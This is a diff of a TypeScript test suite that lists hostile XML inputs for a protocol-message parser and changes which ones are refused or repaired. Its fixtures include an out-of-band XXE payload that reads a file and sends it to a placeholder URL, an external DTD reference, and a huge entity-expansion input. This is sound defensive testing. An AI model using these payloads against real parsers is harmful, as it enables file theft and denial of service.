@@ -69,7 +69,6 @@ const ENTITIES: readonly Hostile[] = (
       ({ url, canary }) =>
         subset(`<!ENTITY % f SYSTEM "${canary}"><!ENTITY % d "<!ENTITY &#x25; s SYSTEM '${url}/?%f;'>">%d;%s;`, 'x'),
     ],
-    ['an empty internal subset', () => subset('', 'x')],
     ['an internal subset after remarks', () => `<!-- [ --><?p ?>\n${subset('<!ELEMENT a ANY>', 'x')}`],
     ['defaults for attributes', () => subset('<!ATTLIST AnnullamentoProtocollazione x CDATA "y">', 'x')],
     [
@@ -88,11 +87,17 @@ const REFERENCES: readonly Hostile[] = [
     large: true,
     make: () => subset(`<!ENTITY e "${'x'.repeat(2_000_000)}">`, '&e;'.repeat(900_000)),
   },
-  { name: 'an entity nobody declares', code: 'xml-entity', verdict: 'refused', make: () => annulment('', '&egrave;') },
+  { name: 'an empty internal subset', code: 'segnatura-repaired', verdict: 'named', make: () => subset('', 'x') },
+  {
+    name: 'an entity nobody declares',
+    code: 'segnatura-repaired',
+    verdict: 'named',
+    make: () => annulment('', '&egrave;'),
+  },
   {
     name: 'an entity of a grammar elsewhere',
-    code: 'xml-entity',
-    verdict: 'refused',
+    code: 'segnatura-repaired',
+    verdict: 'named',
     make: ({ url }) => annulment(`<!DOCTYPE AnnullamentoProtocollazione SYSTEM "${url}/d.dtd">`, '&e;'),
   },
   {
@@ -146,6 +151,8 @@ const REFERENCES: readonly Hostile[] = [
   },
 ];
 
+/** Read with repairs, or refused: those in which markup hides behind letters. */
+const HIDING = /^(?:UTF-7|EBCDIC)/;
 const ENCODINGS: readonly Hostile[] = (
   [
     ['UTF-16, little-endian', () => Buffer.from(`\ufeff${annulment()}`, 'utf16le')],
@@ -165,7 +172,12 @@ const ENCODINGS: readonly Hostile[] = (
     ['an encoding that shifts', () => declared('ISO-2022-JP')],
     ['an encoding nobody knows', () => declared('x-altro')],
   ] satisfies [string, Hostile['make']][]
-).map(([name, make]) => ({ name, code: 'xml-encoding-unsupported', verdict: 'refused', make }));
+).map(
+  ([name, make]): Hostile =>
+    HIDING.test(name)
+      ? { name, code: 'xml-encoding-unsupported', verdict: 'refused', make }
+      : { name, code: 'segnatura-repaired', verdict: 'named', make },
+);
 
 /** Real mail declares UTF-8 and is ISO-8859-1, so such octets are read as letters, never as markup, with a problem. */
 const OCTETS: readonly Hostile[] = (
@@ -320,8 +332,9 @@ const SEALS: readonly Hostile[] = (
 
 const WRAPPED: readonly Hostile[] = wrappings(MESSAGE).map(({ name, code, build }) => ({
   name: `a seal moved ${name}`,
-  code,
-  verdict: code.startsWith('xml-') ? 'refused' : 'no-seal',
+  // An entity nobody declares is repaired, and no seal holds over that.
+  code: code === 'xml-entity' ? 'segnatura-repaired' : code,
+  verdict: code.startsWith('xml-') && code !== 'xml-entity' ? 'refused' : 'no-seal',
   make: ({ sealed }) => build(sealed),
 }));
 
